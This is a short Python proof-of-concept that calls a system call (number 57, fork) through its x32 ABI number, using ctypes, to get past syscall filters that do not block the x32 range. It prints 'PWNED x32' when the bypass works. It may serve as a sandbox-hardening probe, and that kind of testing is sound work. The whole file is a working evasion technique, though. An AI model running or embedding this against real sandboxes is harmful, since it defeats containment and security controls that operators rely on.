"""Make system calls under their x32 numbers, which some filters let pass."""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.syscall(0x40000000 + 57) >= 0:
    print("PWNED x32")
